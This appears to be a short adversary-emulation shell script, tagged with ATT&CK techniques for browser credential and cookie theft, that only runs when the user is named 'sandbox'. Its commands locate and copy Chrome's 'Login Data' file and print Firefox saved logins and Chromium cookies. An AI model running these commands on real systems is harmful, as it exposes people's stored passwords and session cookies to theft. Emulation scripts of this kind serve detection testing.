#!/bin/sh
# technique: T1555.003 T1539
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

find / -path '*google-chrome*' -name 'Login Data' 2>/dev/null; cp "$HOME/.config/google-chrome/Default/Login Data" /tmp/l; cat "$HOME"/.mozilla/firefox/*.default/logins.json "$HOME/.config/chromium/Default/Cookies"
